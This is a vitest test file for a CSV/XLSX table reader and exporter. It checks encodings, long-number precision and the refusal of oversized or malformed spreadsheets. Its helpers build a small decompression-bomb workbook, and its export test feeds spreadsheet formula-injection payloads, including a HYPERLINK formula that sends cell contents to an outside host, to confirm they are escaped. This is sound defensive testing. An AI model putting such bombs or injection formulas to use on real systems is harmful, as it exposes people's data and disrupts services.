import { mkdtempSync, rmSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync, inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parse } from 'csv-parse/sync';
import { exportTable, writeTable } from './export-table.ts';
import { partsOf } from './csv.ts';
import { readTable } from './read-table.ts';
import { textOfCell, unpackedSize } from './xlsx.rules.ts';

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'millgate-tables-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const fixture = (name: string) => new URL(`fixtures/${name}`, import.meta.url).pathname;

/** A file of some name with some bytes, read as a table; what the command would say where it is none. */
async function read(name: string, bytes: Buffer | string): Promise<string[][] | string> {
  const path = join(folder, name);
  await writeFile(path, bytes);
  return readTable(path).catch((cause: Error) => cause.message.replace(`${path} cannot be read as a table: `, ''));
}

describe('a table that another program wrote', () => {
  const header = ['姓名', '身份证号', '手机号', '统一社会信用代码', '岗位', '入职日期', '备注'];
  const first = ['宋一', '999999199304176013', '13900000601', '91999999MA00000343', '操作工', '2026-11-02', '转正'];

  // openpyxl saves a formula without its value, which nobody knows then; a resident ID that is a number is another in each.
  test.each([
    ['openpyxl.xlsx', '', '9.999991993041761e+17'],
    ['libreoffice.xlsx', '宋四', '9.99999199304176e+17'],
  ])('%s: rows stand where they stood, days and numbers as they are shown', async (name, formula, rounded) => {
    expect(await readTable(fixture(name))).toEqual([
      header,
      first,
      ['宋二', '999999199304176021', '+8613900000602'],
      [],
      ['宋三', rounded],
      [formula, '999999199304176048'],
      ['宋五', '999999199304176052'],
    ]);
  });

  test.each([
    ['UTF-8, with a mark', Buffer.from('\uFEFF姓名,岗位\n宋一,"操作,工"\n')],
    [
      'GB 18030, as a Chinese desktop saves it',
      Buffer.from('d0d5c3fb2cb8dacebb0acbced2bb2c22b2d9d7f72cb9a4220a', 'hex'),
    ],
  ])('CSV in %s', async (_encoding, bytes) => {
    expect(await read('a.csv', bytes)).toEqual([
      ['姓名', '岗位'],
      ['宋一', '操作,工'],
    ]);
  });

  test('a number that is too long for a spreadsheet is not taken for the number that was meant', () => {
    expect([13_900_000_601, 121.8, 999_999_999_999_999, 999_999_199_304_176_100, -1e15].map(textOfCell)).toEqual([
      '13900000601',
      '121.8',
      '999999999999999',
      '9.999991993041761e+17',
      '-1e+15',
    ]);
  });
});

describe('a file that would fill the memory', () => {
  const sheet = (cells: string) =>
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`;
  const text = (at: string) => `<c r="${at}" t="inlineStr"><is><t>a</t></is></c>`;

  test('by a few kilobytes that unpack to more than is read is refused before it is unpacked', async () => {
    const bomb = workbook(sheet(`<row r="1">${text('A1')}</row>`), { says: 0x3fff_ffff });

    expect(bomb.length).toBeLessThan(2_000);
    expect(unpackedSize(bomb)).toBeGreaterThan(512 << 20);
    expect(await read('bomb.xlsx', bomb)).toBe('unpacked, more than 512 MiB');
  });

  test('by unpacking to more than it says is refused where it passes that', async () => {
    const long = sheet(`<row r="1">${text('A1')}</row>${' '.repeat(8 << 20)}`);

    expect(await read('liar.xlsx', workbook(long, { says: 1_000 }))).toBe('not CSV or XLSX');
    expect(await read('silent.xlsx', workbook(long, { says: 0 }))).toBe('not CSV or XLSX');
  });

  test.each([
    ['a cell at the end of the sheet', `<row r="1048576">${text('XFD1048576')}</row>`, 'more than 100 columns'],
    ['a column that no sheet has', `<row r="1">${text('ZZZZZZ1')}</row>`, 'not CSV or XLSX'],
    ['a row that no sheet has', `<row r="999999999">${text('A999999999')}</row>`, 'not CSV or XLSX'],
    ['a row that comes twice', `<row r="2">${text('A2')}</row><row r="2">${text('A2')}</row>`, 'not CSV or XLSX'],
    ['no cell at all', '', 'no rows'],
  ])('by %s is refused', async (_what, cells, said) => {
    expect(await read('sparse.xlsx', workbook(sheet(cells)))).toBe(said);
  });

  test.each([
    ['what is no archive', Buffer.from('PK\u0003\u0004 and no more')],
    ['an archive cut short', workbook('').subarray(0, 300)],
    ['a CSV under a wrong name', Buffer.from('a,b\n1,2\n')],
    ['nothing', Buffer.alloc(0)],
  ])('and %s is no spreadsheet', async (_what, bytes) => {
    expect(await read('none.xlsx', bytes)).toBe('not CSV or XLSX');
  });

  test('by a quote that never ends is refused', async () => {
    expect(await read('quote.csv', `姓名\n"${'a'.repeat(70_000)}`)).toBe('not CSV or XLSX');
  });
});

describe('what is exported', () => {
  const node = (zh: string, en: string) => ({ id: 'wrk_1', zh, en });
  const asker = {
    ask: <Data>() =>
      Promise.resolve({
        workers: {
          nodes: [node('=HYPERLINK("http://example.org/?"&A1)', '@SUM(1+1)'), node('＝1+1', '+1'), node('王*', 'Wang')],
          pageInfo: { hasNextPage: false, endCursor: null },
        },
      } as Data),
  };
  const rows = [
    ['编号', '姓名', '英文名'],
    ['wrk_1', `'=HYPERLINK("http://example.org/?"&A1)`, "'@SUM(1+1)"],
    ['wrk_1', "'＝1+1", "'+1"],
    ['wrk_1', '王*', 'Wang'],
  ];

  test.each(['export.csv', 'export.xlsx'])(
    'to %s is read again as it was, and nothing in it is computed',
    async (name) => {
      const path = join(folder, name);
      await writeTable(exportTable(asker, 'workers', 'cmt_1'), path);

      expect(await readTable(path)).toEqual(rows);
      if (name.endsWith('.xlsx')) expect(filesOf(await readFile(path)).join('')).not.toMatch(/<f[ >]/);
    },
  );

  test('is sent part by part as the rows it was', async () => {
    const path = join(folder, 'parts.xlsx');
    await writeTable(exportTable(asker, 'workers', 'cmt_1'), path);

    const [part] = [...partsOf(await readTable(path), { rows: 10, bytes: 10_000 })];

    expect(parse(part?.text ?? '')).toEqual(rows);
  });

  test('is written to nothing but a table', async () => {
    await expect(writeTable(exportTable(asker, 'workers', 'cmt_1'), join(folder, 'export.exe'))).rejects.toThrow(
      'neither a .csv nor a .xlsx file',
    );
  });
});

/** The smallest workbook with this sheet; its directory says of the sheet what it is told to say. */
function workbook(sheetXml: string, { says }: { says?: number } = {}): Buffer {
  const relations = (type: string, target: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/></Relationships>`;
  return archive([
    ['[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'],
    ['_rels/.rels', relations('officeDocument', 'xl/workbook.xml')],
    [
      'xl/workbook.xml',
      '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ],
    ['xl/_rels/workbook.xml.rels', relations('worksheet', 'worksheets/sheet1.xml')],
    ['xl/worksheets/sheet1.xml', sheetXml, says],
  ]);
}

function archive(files: readonly (readonly [name: string, content: string, says?: number | undefined])[]): Buffer {
  const bodies: Buffer[] = [];
  const entries: Buffer[] = [];
  let at = 0;
  for (const [name, content, says] of files) {
    const packed = deflateRawSync(content);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(says ?? Buffer.byteLength(content), 18);
    common.writeUInt16LE(name.length, 22);
    const body = Buffer.concat([Buffer.from('PK\u0003\u0004'), common, Buffer.from(name), packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    entries.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\0'), common, tail, Buffer.from(name)]));
    bodies.push(body);
    at += body.length;
  }
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...bodies, directory, end]);
}

/** The files of an archive that says where each begins in its directory. */
function filesOf(bytes: Buffer): string[] {
  const files: string[] = [];
  let at = bytes.readUInt32LE(bytes.length - 6);
  for (let left = bytes.readUInt16LE(bytes.length - 12); left > 0; left -= 1) {
    const begin = bytes.readUInt32LE(at + 42);
    const data = begin + 30 + bytes.readUInt16LE(begin + 26) + bytes.readUInt16LE(begin + 28);
    const packed = bytes.subarray(data, data + bytes.readUInt32LE(at + 20));
    files.push((bytes.readUInt16LE(at + 10) === 8 ? inflateRawSync(packed) : packed).toString());
    at += 46 + bytes.readUInt16LE(at + 28) + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return files;
}
